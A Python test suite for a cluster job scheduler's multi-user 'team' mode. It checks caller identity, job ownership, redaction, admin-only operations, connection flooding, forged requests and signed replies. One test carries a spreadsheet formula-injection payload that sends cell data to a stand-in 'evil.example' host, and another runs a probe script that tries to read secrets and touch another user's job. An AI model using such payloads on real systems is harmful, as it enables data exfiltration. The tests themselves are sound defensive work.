"""One cluster for a team (issue 30, docs/team.md): who is asking dtsched and what they may do.

Real Unix users on this machine (useradd; root needed): two users and an admin (a member of
cluster.yaml's admin_group).  dtsched and the agent run as root (`mode: team`); each user's
dtctl reaches dtsched over its local socket, where the kernel names the caller (SO_PEERCRED):
nothing the client sends says who it is.  The tests check the owner of each job, `whoami`,
`ps`'s filters, the redaction of others' jobs, and that every refusal names its rule."""
import ast
import contextlib
import csv
import io
import json
import os
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from conftest import LocalCluster
from dtapi import PROTOCOL

ALICE, BOB, BOSS, ADMINS = "dtt-alice", "dtt-bob", "dtt-boss", "dtt-admins"
CAROL = "dtt-carol"   # in bob's primary group


def _userdel(*names):
    for n in names:
        subprocess.run(["userdel", n], capture_output=True)
    subprocess.run(["groupdel", ADMINS], capture_output=True)


@pytest.fixture(scope="module")
def users():
    """alice, bob (users) and boss (in the admin group), removed afterwards."""
    if os.geteuid() != 0 or not shutil.which("useradd"):
        pytest.skip("real Unix users need root and useradd")
    _userdel(CAROL, ALICE, BOB, BOSS)   # carol first: she is in bob's group
    for argv in (["groupadd", ADMINS],
                 ["useradd", "--no-create-home", "--user-group", ALICE],
                 ["useradd", "--no-create-home", "--user-group", BOB],
                 ["useradd", "--no-create-home", "--user-group", "-G", ADMINS, BOSS],
                 ["useradd", "--no-create-home", "--user-group", "-G", BOB, CAROL]):
        p = subprocess.run(argv, capture_output=True, text=True)
        assert p.returncode == 0, (argv, p.stderr)
    try:
        yield
    finally:
        _userdel(CAROL, ALICE, BOB, BOSS)


@contextlib.contextmanager
def team_cluster(dtctl_bin, tmp, name="local", gpus="0", extra="", env=None):
    """A one-node cluster in team mode (cluster.yaml + `extra`; `env` for its daemons too),
    started; its cluster file where the users can read it (pytest's tmp dirs are 0700) and
    the socket in a root-owned folder."""
    pub = Path(tempfile.mkdtemp(prefix="dtt-team-", dir="/var/tmp"))
    os.chmod(pub, 0o755)
    c = LocalCluster(dtctl_bin / "dtctl", tmp, name=name, gpus=gpus)
    c.env.update(env or {})
    c.sock = pub / "run" / "dtsched.sock"
    shared = pub / "shared"
    shared.mkdir(mode=0o755)
    conf = (c.home / "cluster.yaml").read_text().replace(str(c.shared), str(shared))
    c.shared = shared
    conf = conf.replace("head: {port:", "head: {socket: %s, port:" % c.sock)
    conf += "mode: team\nadmin_group: %s\n" % ADMINS + extra
    (c.home / "cluster.yaml").write_text(conf)
    c.public = pub / "cluster.yaml"
    c.public.write_text(conf)
    os.chmod(c.public, 0o644)
    try:
        with c:
            yield c
    finally:
        c.stop()
        shutil.rmtree(pub, ignore_errors=True)


@pytest.fixture(scope="module")
def team(users, dtctl_bin, tmp_path_factory):
    """A one-node cluster in team mode (team_cluster)."""
    with team_cluster(dtctl_bin, tmp_path_factory.mktemp("team")) as c:
        yield c


def as_user(c, user, *args, timeout=30, env_extra=None):
    """dtctl as `user` (runuser), with the published cluster file."""
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "NO_COLOR": "1",
           "HOME": "/nonexistent", "DTCTL_NO_SYSTEMD": "1"}
    env.update(env_extra or {})
    return subprocess.run(["runuser", "-u", user, "--", str(c.exe), "-c", str(c.public)]
                          + [str(a) for a in args], capture_output=True, text=True,
                          timeout=timeout, env=env, stdin=subprocess.DEVNULL, cwd="/")


def submit(c, user, *argv, name=None):
    p = as_user(c, user, "run", "-d", "--json", "-w", "/tmp", "--name", name or user, "--",
                *argv)
    assert p.returncode == 0, (user, p.stdout, p.stderr)
    return json.loads(p.stdout)["job"]["id"] if "job" in json.loads(p.stdout) \
        else json.loads(p.stdout)["id"]


def test_whoami_names_the_kernel_user(team):
    """Each user is known by the uid the kernel gives dtsched; the admin by admin_group."""
    for user, admin in ((ALICE, False), (BOSS, True)):
        p = as_user(team, user, "whoami", "--json")
        assert p.returncode == 0, p.stderr
        w = json.loads(p.stdout)
        assert w["user"] == user and w["uid"] == int(subprocess.check_output(
            ["id", "-u", user])), w
        assert w["authenticated_by"] == "local socket (SO_PEERCRED)", w
        assert ("admin" in w["roles"]) == admin, w
        assert w["mode"] == "team"
    p = as_user(team, ALICE, "whoami")
    assert p.returncode == 0 and "user:   %s" % ALICE in p.stdout, p.stdout


def test_owner_is_the_caller_and_ps_filters(team):
    """A job's owner is who submitted it, whatever "user" the request carries; `ps` shows
    your own, `--user` another's (redacted), `--all` everyone's."""
    a = submit(team, ALICE, "sleep", "60", name="alicejob")
    b = submit(team, BOB, "sleep", "60", name="bobjob")
    try:
        p = as_user(team, ALICE, "ps", "--json")
        assert p.returncode == 0, p.stderr
        mine = json.loads(p.stdout)["jobs"]
        assert [j["id"] for j in mine] == [a] and mine[0]["user"] == ALICE, mine
        assert "spec" not in mine[0] and not mine[0].get("redacted"), mine

        p = as_user(team, ALICE, "ps", "--user", BOB, "--json")
        theirs = json.loads(p.stdout)["jobs"]
        assert [j["id"] for j in theirs] == [b], theirs
        assert theirs[0]["user"] == BOB and theirs[0]["redacted"] is True, theirs
        assert "job_dir" not in theirs[0] and theirs[0]["state"] in ("PENDING", "RUNNING")

        p = as_user(team, ALICE, "ps", "--all")
        assert p.returncode == 0 and "USER" in p.stdout, p.stdout
        assert ALICE in p.stdout and BOB in p.stdout, p.stdout

        # show: everything of one's own, not the env or argv of another's
        p = as_user(team, ALICE, "show", "--json", a)
        assert p.returncode == 0, p.stderr
        assert json.loads(p.stdout)["job"]["spec"]["command"] == ["sleep", "60"]
        p = as_user(team, ALICE, "show", "--json", b)
        assert p.returncode == 0, p.stderr
        j = json.loads(p.stdout)["job"]
        assert j["redacted"] is True and "spec" not in j and "ranks" not in j, j
        assert "sleep" not in p.stdout
    finally:
        team.dtctl("cancel", a, b)


def test_cancel_of_anothers_job_names_the_rule(team):
    """A user cannot cancel another's job (exit 1, the rule named); the owner and an admin can."""
    b = submit(team, BOB, "sleep", "60", name="bobjob2")
    b2 = submit(team, BOB, "sleep", "60", name="bobjob3")
    p = as_user(team, ALICE, "cancel", b)
    assert p.returncode == 1, (p.stdout, p.stderr)
    assert "job %s belongs to %s; cancelling it needs the admin role" % (b, BOB) in p.stderr
    assert json.loads(team.dtctl("show", "--json", b).stdout)["job"]["state"] in (
        "PENDING", "RUNNING")
    # nor signal its ranks (cancel --signal: POST /v1/jobs/<id>/signal)
    p = as_user(team, ALICE, "cancel", "--signal", "KILL", b)
    assert p.returncode == 1, (p.stdout, p.stderr)
    assert "job %s belongs to %s; signalling it needs the admin role" % (b, BOB) in p.stderr
    p = as_user(team, BOB, "cancel", b)
    assert p.returncode == 0, p.stderr
    p = as_user(team, BOSS, "cancel", b2)
    assert p.returncode == 0, p.stderr
    j = json.loads(team.dtctl("show", "--json", b2).stdout)["job"]
    assert j["state"] == "CANCELLED" or "cancelled by %s (admin)" % BOSS in (j["reason"] or ""), j


def test_admin_operations_need_the_admin_role(team):
    """drain and resume: refused to a user naming the rule, done for the admin group."""
    p = as_user(team, ALICE, "drain", "local")
    assert p.returncode == 1, (p.stdout, p.stderr)
    assert "draining a node needs the admin role" in p.stderr, p.stderr
    assert not team.node_json().get("drained"), team.node_json()
    p = as_user(team, BOSS, "drain", "local")
    assert p.returncode == 0, p.stderr
    assert team.node_json()["drained"], team.node_json()
    p = as_user(team, ALICE, "resume", "local")
    assert p.returncode == 1 and "resuming a node needs the admin role" in p.stderr, p.stderr
    p = as_user(team, BOSS, "resume", "local")
    assert p.returncode == 0, p.stderr
    assert not team.node_json()["drained"], team.node_json()


def raw(c, user, method, path, body=b""):
    """One HTTP request on dtsched's local socket as `user` (python3 under runuser): the
    status line and the body, as dtsched answered."""
    code = ("import socket,sys\n"
            "b=sys.argv[4].encode()\n"
            "s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])\n"
            "s.sendall(('%s %s HTTP/1.1\\r\\nHost: x\\r\\nX-DT-Protocol: %s\\r\\n"
            "Content-Length: %d\\r\\n"
            "Connection: close\\r\\n\\r\\n' % (sys.argv[2], sys.argv[3], sys.argv[5],"
            " len(b))).encode()+b)\n"
            "out=b''\n"
            "while True:\n"
            "    d=s.recv(65536)\n"
            "    if not d: break\n"
            "    out+=d\n"
            "print(out.decode(errors='replace'))\n")
    p = subprocess.run(["runuser", "-u", user, "--", "/usr/bin/python3", "-c", code,
                        str(c.sock), method, path, body, str(PROTOCOL)],
                       capture_output=True, text=True,
                       timeout=20)
    assert p.returncode == 0, p.stderr
    head, _, rest = p.stdout.partition("\n\n")   # text mode: CRLF read as LF
    return head.splitlines()[0], rest


def test_daemon_endpoints_refused_on_the_socket(team):
    """A user on the local socket cannot send a heartbeat (forge node state) or list tasks."""
    for method, path in (("POST", "/v1/heartbeat"), ("GET", "/v1/tasks")):
        status, body = raw(team, ALICE, method, path, "{}")
        assert status.startswith("HTTP/1.1 403"), (status, body)
        assert "for dtctl's daemons only" in body, body


HOLD = r"""
import resource, socket, sys
path, proto, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
if hard != resource.RLIM_INFINITY and hard < n + 64:
    print("skip: open file limit %d" % hard, flush=True)
    sys.exit(0)
resource.setrlimit(resource.RLIMIT_NOFILE, (n + 64, hard))
held, answers = [], {}
req = ("GET /v1/whoami HTTP/1.1\r\nHost: x\r\nX-DT-Protocol: %s\r\n\r\n" % proto).encode()
for i in range(n):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    try:
        s.connect(path)
        s.sendall(req)
        d = s.recv(65536)
    except OSError as e:
        d = ("error " + e.__class__.__name__).encode()
    key = d.split(b"\r\n")[0].decode(errors="replace") if d else "closed"
    answers[key] = answers.get(key, 0) + 1
    if key.startswith("HTTP/1.1 429") and "429 body" not in answers:
        answers["429 body"] = d.decode(errors="replace").split("\r\n\r\n", 1)[-1]
    held.append(s)
    if not key.startswith(("HTTP/1.1 200", "HTTP/1.1 429")):
        break   # dtsched takes no more: hold what it took
print(repr(answers), flush=True)
sys.stdin.read()   # hold them until the test is done
"""


def test_one_user_cannot_hold_every_connection(team):
    """bob opens 4,200 connections to dtsched's local socket, each with one request, and
    keeps them (as `dtctl events -f` sessions would): a connection that carried a request
    is never evicted as a flood.  Without a bound per user he held every connection the
    socket takes (4096) and alice's dtctl was refused; now his beyond a bound are answered
    429 naming the rule and closed, and alice (and, once he lets go, bob) is served."""
    p = subprocess.Popen(["runuser", "-u", BOB, "--", "/usr/bin/python3", "-c", HOLD,
                          str(team.sock), str(PROTOCOL), "4200"], stdin=subprocess.PIPE,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = p.stdout.readline()
        if line.startswith("skip:"):
            pytest.skip(line.strip())
        assert line, p.stderr.read()
        answers = ast.literal_eval(line)
        for argv in (["whoami"], ["ps"]):
            a = as_user(team, ALICE, *argv, timeout=20)
            assert a.returncode == 0, (argv, a.stdout, a.stderr, answers)
        assert team.node_json()["state"] == "UP", team.node_json()
        ok = sum(v for k, v in answers.items() if k.startswith("HTTP/1.1 200"))
        refused = sum(v for k, v in answers.items() if k.startswith("HTTP/1.1 429"))
        assert 0 < ok < 1024 and refused == 4200 - ok, answers
        assert "holds %d open connections" % ok in answers["429 body"], answers
    finally:
        p.stdin.close()
        p.wait(timeout=60)
    deadline = time.time() + 30
    while True:   # dtsched sees bob's connections close: he is served again
        b = as_user(team, BOB, "whoami")
        if b.returncode == 0 or time.time() > deadline:
            break
        time.sleep(0.2)
    assert b.returncode == 0, (b.stdout, b.stderr)


def test_the_user_field_of_a_submit_is_not_believed(team):
    """A submit that says "user": bob, sent by alice, is alice's job."""
    body = json.dumps({"job": {"name": "forged", "command": ["sleep", "30"]},
                       "shared_dir": str(team.shared), "user": BOB})
    status, reply = raw(team, ALICE, "POST", "/v1/jobs", body)
    assert status.startswith("HTTP/1.1 201"), (status, reply)
    j = json.loads(reply)["job"]
    try:
        assert j["user"] == ALICE, j
    finally:
        team.dtctl("cancel", j["id"])
    # dtsched (root) makes job dirs and hands them over: only in the cluster's shared dir
    planted = Path(tempfile.mkdtemp(prefix="dtt-elsewhere-", dir="/var/tmp"))
    try:
        body = json.dumps({"job": {"name": "elsewhere", "command": ["true"]},
                           "shared_dir": str(planted)})
        status, reply = raw(team, ALICE, "POST", "/v1/jobs", body)
        assert status.startswith("HTTP/1.1 400"), (status, reply)
        assert "'shared_dir' must be the cluster's" in reply, reply
        assert not any(planted.iterdir()), list(planted.iterdir())
    finally:
        shutil.rmtree(planted, ignore_errors=True)


def test_socket_folder_others_may_write_is_not_trusted(team, tmp_path):
    """dtctl refuses a socket in a folder anyone may write to: anyone could have made it."""
    conf = team.public.read_text().replace(str(team.sock), "/tmp/dtt-planted.sock")
    f = tmp_path / "planted.yaml"
    f.write_text(conf)
    p = subprocess.run([str(team.exe), "-c", str(f), "whoami"], capture_output=True, text=True,
                       timeout=30, env=team.env)
    assert p.returncode == 3, (p.stdout, p.stderr)
    assert "others may write to it" in p.stderr or "cannot use the socket" in p.stderr, p.stderr


def wait_state(c, job, states, timeout=30):
    import time
    deadline = time.monotonic() + timeout
    while True:
        j = json.loads(c.dtctl("show", "--json", job).stdout)["job"]
        if j["state"] in states:
            return j
        assert time.monotonic() < deadline, "job %s not %s: %s" % (job, states, j)
        time.sleep(0.2)


def test_acct_csv_shows_anothers_job_name_as_text(team):
    """acct shows every user's job names; in --csv a name such as =HYPERLINK(...) ran as a
    formula in the spreadsheet of whoever opened it (sending the sheet's cells away): now
    such a field begins with "'" and a spreadsheet shows it as text."""
    name = '=HYPERLINK("https://evil.example/?"&A1,"ok")'
    job = submit(team, ALICE, "true", name=name)
    wait_state(team, job, ("COMPLETED",))
    p = as_user(team, BOB, "acct", "--csv")
    assert p.returncode == 0, p.stderr
    rows = list(csv.DictReader(io.StringIO(p.stdout)))
    mine = [r for r in rows if r["id"] == job]
    assert len(mine) == 1 and mine[0]["user"] == ALICE, p.stdout
    assert mine[0]["name"] == "'" + name, mine


def proc_ids(pid):
    """(real uid, real gid, supplementary groups) of pid, from /proc/<pid>/status."""
    st = dict(l.split(":", 1) for l in Path("/proc/%d/status" % pid).read_text().splitlines()
              if ":" in l)
    return (int(st["Uid"].split()[0]), int(st["Gid"].split()[0]),
            sorted(int(g) for g in st["Groups"].split()), st["NoNewPrivs"].strip())


def test_ranks_run_as_their_user(team):
    """Each user's rank runs under that user's uid, primary gid and groups, with no_new_privs;
    the job dir and its log are the user's alone."""
    a = submit(team, ALICE, "sleep", "60", name="alice-ids")
    try:
        j = wait_state(team, a, ("RUNNING",))
        import time
        deadline = time.monotonic() + 20
        while not (j.get("ranks") and j["ranks"][0].get("pid")):
            assert time.monotonic() < deadline, j
            time.sleep(0.2)
            j = json.loads(team.dtctl("show", "--json", a).stdout)["job"]
        pid = j["ranks"][0]["pid"]
        import pwd
        import grp
        pw = pwd.getpwnam(ALICE)
        groups = sorted(set([pw.pw_gid] + [g.gr_gid for g in grp.getgrall()
                                           if ALICE in g.gr_mem]))
        assert proc_ids(pid) == (pw.pw_uid, pw.pw_gid, groups, "1"), proc_ids(pid)
        jd = team.shared / "jobs" / a
        st = jd.stat()
        assert (st.st_uid, st.st_mode & 0o777) == (pw.pw_uid, 0o700), (st.st_uid, oct(st.st_mode))
        log = jd / "logs" / "0.log"
        assert log.stat().st_uid == pw.pw_uid and log.stat().st_mode & 0o077 == 0, \
            oct(log.stat().st_mode)
    finally:
        team.dtctl("cancel", a)


def test_a_job_cannot_touch_the_cluster_or_another_job(team):
    """Alice's rank cannot read the secret, read or write Bob's job dir or signal his rank;
    Bob's CLI cannot read Alice's logs; hers can."""
    b = submit(team, BOB, "sleep", "60", name="bob-victim")
    try:
        bj = wait_state(team, b, ("RUNNING",))
        import time
        deadline = time.monotonic() + 20
        while not (bj.get("ranks") and bj["ranks"][0].get("pid")):
            assert time.monotonic() < deadline, bj
            time.sleep(0.2)
            bj = json.loads(team.dtctl("show", "--json", b).stdout)["job"]
        bpid = bj["ranks"][0]["pid"]
        bdir = team.shared / "jobs" / b
        script = ("for f in %(secret)s %(blog)s; do cat $f >/dev/null 2>&1 && echo READ $f; done; "
                  "touch %(bdir)s/x 2>/dev/null && echo WROTE; "
                  "ls %(bdir)s >/dev/null 2>&1 && echo LISTED; "
                  "kill -TERM %(bpid)d 2>/dev/null && echo SIGNALLED; echo done-probing"
                  % {"secret": team.home / "secret", "blog": bdir / "logs" / "0.log",
                     "bdir": bdir, "bpid": bpid})
        a = submit(team, ALICE, "sh", "-c", script, name="alice-probe")
        aj = wait_state(team, a, ("COMPLETED", "FAILED"))
        assert aj["state"] == "COMPLETED", aj
        p = as_user(team, ALICE, "logs", a)
        assert p.returncode == 0, p.stderr
        assert "done-probing" in p.stdout, p.stdout
        for bad in ("READ", "WROTE", "LISTED", "SIGNALLED"):
            assert bad not in p.stdout, p.stdout
        assert json.loads(team.dtctl("show", "--json", b).stdout)["job"]["state"] == "RUNNING"
        p = as_user(team, BOB, "logs", a)
        assert p.returncode == 1 and "done-probing" not in p.stdout, (p.stdout, p.stderr)
        assert "Permission denied" in p.stderr and "another user's job" in p.stderr, p.stderr
    finally:
        team.dtctl("cancel", b)


def test_init_in_team_mode_needs_root_on_the_nodes(dtctl_bin, tmp_path):
    """mode: team runs the agents as root: init refuses a node it would log in to as another
    user, naming it, before it writes anything."""
    home = tmp_path / "home"
    f = tmp_path / "cluster.yaml"
    f.write_text("cluster: t\nuser: dttest\nshared_dir: /srv/x\nmode: team\nnodes:\n"
                 "  - {host: 10.99.0.1, name: n1}\n  - {host: 10.99.0.2, name: n2, user: root}\n")
    env = dict(os.environ, DTCTL_HOME=str(home), NO_COLOR="1")
    env.pop("DTCTL_CLUSTER", None)
    p = subprocess.run([str(dtctl_bin / "dtctl"), "init", str(f)], capture_output=True,
                       text=True, timeout=30, env=env, stdin=subprocess.DEVNULL)
    assert p.returncode == 2, (p.stdout, p.stderr)
    assert "mode: team runs the agents as root: node 'n1' is reached as a user other than " \
        "root" in p.stderr, p.stderr
    assert not home.exists() or not any(home.iterdir()), list(home.iterdir())


def keypair(dirpath, name):
    """An ed25519 key pair by ssh-keygen, readable by the test users."""
    key = dirpath / name
    p = subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f",
                        str(key)], capture_output=True, text=True)
    assert p.returncode == 0, p.stderr
    os.chmod(key, 0o644)
    return key


def test_users_elsewhere_sign_with_their_own_key(team):
    """A user added with their key is that user whatever uid runs dtctl; an unknown key,
    an unknown name and a removed user are refused (exit 3); only an admin adds users."""
    if not shutil.which("ssh-keygen"):
        pytest.skip("ssh-keygen not installed")
    keys = team.public.parent / "keys"
    keys.mkdir(mode=0o755)
    alice, other = keypair(keys, "alice"), keypair(keys, "other")
    head_key = json.loads(team.dtctl("whoami", "--json").stdout)["head_key"]
    # without dtsched's key pinned, a key user's dtctl does not talk at all (its replies
    # could be anyone's): exit 2 naming $DTCTL_HEAD_KEY
    p = as_user(team, BOB, "whoami", env_extra={"DTCTL_USER_KEY": str(alice),
                                                "DTCTL_USER": ALICE})
    assert p.returncode == 2 and "$DTCTL_HEAD_KEY is not set" in p.stderr, (p.stdout, p.stderr)
    as_alice = {"DTCTL_USER_KEY": str(alice), "DTCTL_USER": ALICE, "DTCTL_HEAD_KEY": head_key}

    # refusals are dtsched's signed replies too: "unknown user", not "not signed"
    p = as_user(team, BOB, "whoami", env_extra=as_alice)
    assert p.returncode == 3 and "unknown user '%s'" % ALICE in p.stderr, (p.stdout, p.stderr)
    p = as_user(team, ALICE, "user", "add", ALICE, "--key", "%s.pub" % alice)
    assert p.returncode == 1 and "adding a user needs the admin role" in p.stderr, p.stderr
    p = team.dtctl("user", "add", ALICE, "--key", "%s.pub" % alice)
    assert p.returncode == 0, p.stderr
    fp = subprocess.check_output(["ssh-keygen", "-lf", "%s.pub" % alice], text=True).split()[1]
    listed = json.loads(team.dtctl("user", "list", "--json").stdout)["users"]
    assert [(u["name"], u["fingerprint"], u["admin"]) for u in listed] == [(ALICE, fp, False)]

    # run by bob's uid, signed with alice's key: alice (the key, not the uid, says who)
    p = as_user(team, BOB, "whoami", "--json", env_extra=as_alice)
    assert p.returncode == 0, p.stderr
    w = json.loads(p.stdout)
    assert (w["user"], w["uid"], w["authenticated_by"]) == (
        ALICE, None, "ed25519 key (dtctl user add)"), w
    assert "admin" not in w["roles"], w
    j = submit_env(team, BOB, as_alice, "sleep", "30")
    try:
        assert json.loads(team.dtctl("show", "--json", j).stdout)["job"]["user"] == ALICE
    finally:
        team.dtctl("cancel", j)
    # a user key cannot drain (admin) nor forge a heartbeat (daemons only)
    p = as_user(team, BOB, "drain", "local", env_extra=as_alice)
    assert p.returncode == 1 and "needs the admin role" in p.stderr, p.stderr

    p = as_user(team, BOB, "whoami", env_extra={"DTCTL_USER_KEY": str(other),
                                                "DTCTL_USER": ALICE, "DTCTL_HEAD_KEY": head_key})
    assert p.returncode == 3 and "bad signature" in p.stderr, (p.stdout, p.stderr)

    p = team.dtctl("user", "remove", ALICE)
    assert p.returncode == 0, p.stderr
    p = as_user(team, BOB, "whoami", env_extra=as_alice)
    assert p.returncode == 3 and "unknown user '%s'" % ALICE in p.stderr, (p.stdout, p.stderr)


def submit_env(c, user, env_extra, *argv):
    p = as_user(c, user, "run", "-d", "--json", "-w", "/tmp", "--", *argv, env_extra=env_extra)
    assert p.returncode == 0, (p.stdout, p.stderr)
    doc = json.loads(p.stdout)
    return doc["job"]["id"] if "job" in doc else doc["id"]


def test_share_group_opens_a_job_to_the_owners_group(team):
    """share: group: members of the owner's primary group see the spec and read the logs;
    others still see it redacted and cannot read them; nobody but the owner cancels it."""
    jobfile = team.public.parent / "shared-job.yaml"
    jobfile.write_text("name: shared\ncommand: [sh, -c, 'echo shared-line; sleep 60']\n"
                       "share: group\nworkdir: /tmp\n")
    os.chmod(jobfile, 0o644)
    p = as_user(team, BOB, "run", "-d", "--json", str(jobfile))
    assert p.returncode == 0, (p.stdout, p.stderr)
    doc = json.loads(p.stdout)
    j = doc["job"]["id"] if "job" in doc else doc["id"]
    try:
        wait_state(team, j, ("RUNNING",))
        p = as_user(team, CAROL, "show", "--json", j)
        assert p.returncode == 0 and not json.loads(p.stdout)["job"].get("redacted"), p.stdout
        assert json.loads(p.stdout)["job"]["spec"]["share"] == "group"
        p = as_user(team, ALICE, "show", "--json", j)
        assert json.loads(p.stdout)["job"]["redacted"] is True, p.stdout
        import time
        deadline = time.monotonic() + 20
        while "shared-line" not in as_user(team, CAROL, "logs", j).stdout:
            assert time.monotonic() < deadline, as_user(team, CAROL, "logs", j)
            time.sleep(0.2)
        p = as_user(team, ALICE, "logs", j)
        assert p.returncode == 1 and "shared-line" not in p.stdout, (p.stdout, p.stderr)
        p = as_user(team, CAROL, "cancel", j)
        assert p.returncode == 1 and "cancelling it needs the admin role" in p.stderr, p.stderr
    finally:
        team.dtctl("cancel", j)


def test_sweeps_are_their_owners(team):
    """A sweep and its trials belong to who submitted it; another user sees it redacted and
    cannot read its export nor pause or stop it; its owner can."""
    f = team.public.parent / "sweep.yaml"
    f.write_text("method: grid\nmetric: {name: loss}\nparameters:\n  h: {values: [1, 2]}\n"
                 "job: {procs_per_node: 1, command: [sh, -c, 'sleep 60'], workdir: /tmp}\n"
                 "max_trials: 2\nparallel: 1\n")
    os.chmod(f, 0o644)
    p = as_user(team, BOB, "sweep", "--detach", "--json", str(f))
    assert p.returncode == 0, (p.stdout, p.stderr)
    sid = json.loads(p.stdout)["sweep"]["id"]
    try:
        p = as_user(team, ALICE, "sweep", "list", "--json")
        w = [x for x in json.loads(p.stdout)["sweeps"] if x["id"] == sid][0]
        assert (w["user"], w["redacted"]) == (BOB, True) and "parameters" not in w, w
        p = as_user(team, ALICE, "sweep", "export", "--json", sid)
        assert p.returncode == 1 and "sweep %s belongs to %s; reading it needs the admin " \
            "role" % (sid, BOB) in p.stderr, (p.stdout, p.stderr)
        p = as_user(team, ALICE, "sweep", "stop", sid)
        assert p.returncode == 1 and "stopping it needs the admin role" in p.stderr, p.stderr
        p = as_user(team, BOB, "sweep", "pause", sid)
        assert p.returncode == 0, p.stderr
        # its trials are bob's jobs
        import time
        deadline = time.monotonic() + 20
        while True:
            st = json.loads(as_user(team, BOB, "sweep", "status", "--json", sid).stdout)
            ids = [t["job_id"] for t in st.get("trials", []) if t.get("job_id")]
            if ids:
                break
            assert time.monotonic() < deadline, json.dumps(st)[:3000]
            time.sleep(0.2)
        assert json.loads(team.dtctl("show", "--json", ids[0]).stdout)["job"]["user"] == BOB
    finally:
        team.dtctl("sweep", "stop", sid)


def test_node_detail_hides_what_tasks_run(team):
    """GET /v1/nodes/<name> lists the node's tasks; a user sees them without argv, paths or
    env names (another user's job runs there), an admin with them."""
    b = submit(team, BOB, "sleep", "61", name="bob-node")
    try:
        wait_state(team, b, ("RUNNING",))
        import time
        deadline = time.monotonic() + 20
        while True:
            status, body = raw(team, BOSS, "GET", "/v1/nodes/local")
            tasks = json.loads(body)["node"]["tasks"]
            mine = [t for t in tasks if t.get("job_id") == b]
            if mine:
                break
            assert time.monotonic() < deadline, body
            time.sleep(0.2)
        assert mine[0]["argv"] == ["sleep", "61"], mine
        status, body = raw(team, ALICE, "GET", "/v1/nodes/local")
        assert status.startswith("HTTP/1.1 200"), (status, body)
        t = [t for t in json.loads(body)["node"]["tasks"] if t.get("job_id") == b][0]
        assert "argv" not in t and "env_keys" not in t and "cwd" not in t, t
        assert "\"sleep\"" not in body, body
    finally:
        team.dtctl("cancel", b)


def test_head_start_restarts_dtsched_into_team_mode(dtctl_bin, tmp_path):
    """Setting mode: team on a running single-user head: `dtctl head start` (and init)
    restart dtsched, which then serves the team socket."""
    pub = Path(tempfile.mkdtemp(prefix="dtt-switch-", dir="/var/tmp"))
    os.chmod(pub, 0o755)
    c = LocalCluster(dtctl_bin / "dtctl", tmp_path)
    sock = pub / "run" / "dtsched.sock"
    try:
        p = c.dtctl("head", "start")
        assert p.returncode == 0, p.stderr
        assert not sock.exists()
        conf = (c.home / "cluster.yaml").read_text()
        conf = conf.replace("head: {port:", "head: {socket: %s, port:" % sock) + "mode: team\n"
        (c.home / "cluster.yaml").write_text(conf)
        p = c.dtctl("head", "start")
        assert p.returncode == 0, p.stderr
        assert "restarting dtsched" in p.stderr, p.stderr
        assert sock.is_socket() and sock.stat().st_mode & 0o777 == 0o666, sock
        p = c.dtctl("whoami", "--json")
        assert p.returncode == 0, p.stderr
        w = json.loads(p.stdout)
        assert (w["mode"], w["authenticated_by"]) == ("team", "local socket (SO_PEERCRED)"), w
    finally:
        c.stop()
        shutil.rmtree(pub, ignore_errors=True)


def test_key_users_check_dtsched_signs_its_replies(team):
    """dtsched signs its replies to key-signed requests with its own ed25519 key, which
    `user add` prints and the user pins in DTCTL_HEAD_KEY: then a program answering on the
    head port in dtsched's place is refused (exit 3, naming the port and the pin)."""
    import re
    from test_head_trust import Impostor
    if not shutil.which("ssh-keygen"):
        pytest.skip("ssh-keygen not installed")
    keys = team.public.parent / "headkeys"
    keys.mkdir(mode=0o755)
    alice, other = keypair(keys, "alice"), keypair(keys, "other")
    p = team.dtctl("user", "add", ALICE, "--key", "%s.pub" % alice)
    assert p.returncode == 0, p.stderr
    try:
        m = re.search(r"dtsched's key \((SHA256:\S+)\), for the user's DTCTL_HEAD_KEY:\n  "
                      r"(ssh-ed25519 \S+ dtsched)\n", p.stdout)
        assert m, p.stdout
        head_pub = keys / "head.pub"
        head_pub.write_text(m.group(2) + "\n")
        os.chmod(head_pub, 0o644)
        fp = subprocess.check_output(["ssh-keygen", "-lf", str(head_pub)], text=True).split()[1]
        assert fp == m.group(1), (fp, p.stdout)
        home = Path(team.home)
        assert (home / "head_key").stat().st_mode & 0o777 == 0o600

        as_alice = {"DTCTL_USER_KEY": str(alice), "DTCTL_USER": ALICE}
        # pinned (the line, or a file holding it): dtsched's signed replies are taken
        for pin in (m.group(2), str(head_pub)):
            p = as_user(team, BOB, "whoami", "--json",
                        env_extra=dict(as_alice, DTCTL_HEAD_KEY=pin))
            assert p.returncode == 0, (pin, p.stderr)
            w = json.loads(p.stdout)
            assert (w["user"], w["head_key_fingerprint"]) == (ALICE, fp), w

        # a program on the head port answering as dtsched would
        imp = Impostor(0)
        try:
            imp.reply = json.dumps({"protocol": PROTOCOL, "user": ALICE, "uid": None,
                                    "roles": ["user", "admin"], "authenticated_by": "x",
                                    "mode": "team"}).encode() + b"\n"
            imp.headers = {"X-DT-Signature": "ab" * 64}
            port = imp.server_address[1]
            conf = keys / "squatted.yaml"
            conf.write_text(re.sub(r"port: \d+}", "port: %d}" % port,
                                   team.public.read_text().replace("head: {socket: %s, " %
                                                                   team.sock, "head: {")))
            os.chmod(conf, 0o644)
            squat = ["-c", str(conf)]
            p = subprocess.run(["runuser", "-u", BOB, "--", str(team.exe)] + squat + ["whoami"],
                               capture_output=True, text=True, timeout=30, cwd="/",
                               env={"PATH": os.environ["PATH"], "HOME": "/nonexistent",
                                    "NO_COLOR": "1", "DTCTL_NO_SYSTEMD": "1",
                                    "DTCTL_HEAD_KEY": str(head_pub), **as_alice})
            assert p.returncode == 3, (p.stdout, p.stderr)
            assert ("reply from 127.0.0.1:%d is not signed by this cluster (another program "
                    "on the head port?)" % port) in p.stderr, p.stderr
            assert "not signed by the head key pinned in $DTCTL_HEAD_KEY" in p.stderr, p.stderr
            assert "admin" not in p.stdout, p.stdout
            # a key that is not dtsched's pinned: dtsched itself is refused the same way
            p = as_user(team, BOB, "whoami", env_extra=dict(as_alice,
                                                            DTCTL_HEAD_KEY="%s.pub" % other))
            assert p.returncode == 3 and "pinned in $DTCTL_HEAD_KEY" in p.stderr, p.stderr
        finally:
            imp.stop()
